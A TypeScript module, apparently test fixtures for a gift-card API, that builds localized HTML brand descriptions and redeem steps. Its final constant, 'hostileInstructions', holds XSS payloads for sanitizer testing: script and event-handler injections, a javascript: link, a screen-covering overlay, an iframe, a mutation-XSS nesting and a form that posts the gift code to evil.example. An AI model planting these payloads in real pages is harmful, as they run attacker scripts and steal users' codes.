import type {Brand} from './shelf.js';

/** The languages that the API speaks; another one answers with no text at all. */
const languages = ['en', 'es', 'fr', 'de', 'it', 'pt', 'zh', 'tr', 'vi', 'tl'];

/** The `rich_description` of a brand: fragments of HTML, any of which may be missing. */
export function richDescription(brand: Brand, lang: string): unknown {
  if (!languages.includes(lang)) return null;
  const texts = lang === 'vi' ? vietnamese : english;
  return {
    markup: 'html',
    description: texts.description(escapeHtml(brand.name)),
    how_to_redeem: `<ol>${texts
      .steps(escapeHtml(brand.name))
      .map(step => `<li>${step}</li>`)
      .join('')}</ol>`,
    term_and_conditions: `<p>${termsOf(brand)}</p>`,
    note: brand.stock === 'out' ? null : `<p>${texts.note}</p>`,
    redeem_geo: brand.country,
    locale: texts.locale,
    country_code: brand.country,
    brand_tagline: null,
    brand_use_case: null,
    brand_url: `https://${brand.logo.replace(/[^a-z0-9-]/g, '')}.example`,
    brand_alt_names: [],
    sizeInBytes: 0,
  };
}

export function termsOf(brand: Brand): string {
  return `Valid in ${brand.country}. Cannot be returned or exchanged for cash. No expiry date.`;
}

/** The `redeem_instructions` of a delivered card. */
export function redeemInstructions(name: string): string {
  const brand = escapeHtml(name);
  return (
    `<ol><li>Sign in to your <strong>${brand}</strong> account.</li>` +
    '<li>Open <em>Gift cards</em> and choose <em>Redeem</em>.</li>' +
    '<li>Enter the code. The balance is there at once &amp; does not expire.</li></ol>' +
    '<p>Help: <a href="https://help.example/redeem" target="_blank" rel="noopener">help.example</a></p>'
  );
}

export function escapeHtml(text: string): string {
  return text.replace(/[&<>"']/g, character => `&#${character.charCodeAt(0)};`);
}

const english = {
  locale: 'en',
  description: (name: string) =>
    `<p>Spend it on anything at <strong>${name}</strong>, in one go or bit by bit.</p><p>A present that always fits.</p>`,
  steps: (name: string) => [
    `Sign in to your ${name} account.`,
    'Open <strong>Gift cards</strong> and choose <strong>Redeem</strong>.',
    'Enter the code. The balance is there at once &amp; does not expire.',
  ],
  note: 'The code comes by e-mail too.',
};

const vietnamese: typeof english = {
  locale: 'vi',
  description: name => `<p>Dùng cho mọi thứ tại <strong>${name}</strong>, một lần hoặc nhiều lần.</p>`,
  steps: name => [
    `Đăng nhập vào tài khoản ${name} của bạn.`,
    'Mở <strong>Thẻ quà tặng</strong> và chọn <strong>Đổi mã</strong>.',
    'Nhập mã. Số dư có ngay và không hết hạn.',
  ],
  note: 'Mã cũng được gửi qua e-mail.',
};

/** Instructions of a supplier that means ill: nothing of it may run, load, or leave the box it is shown in. */
export const hostileInstructions =
  '<script>alert(1)</script><img src="x" onerror="alert(2)"><svg onload="alert(3)"></svg>' +
  '<iframe src="https://evil.example"></iframe><style>* { display: none }</style>' +
  '<p style="position: fixed; inset: 0" onclick="alert(4)">Enter the code <strong>at the till</strong>.</p>' +
  '<p><a href="javascript:alert(5)">Redeem</a> or <a href="https://help.example/redeem">read more</a>.</p>' +
  '<form action="https://evil.example"><input name="code"><button>Send your code</button></form>' +
  '<math><mtext><table><mglyph><style><img src="x" onerror="alert(6)"></style></mglyph></table></mtext></math>';
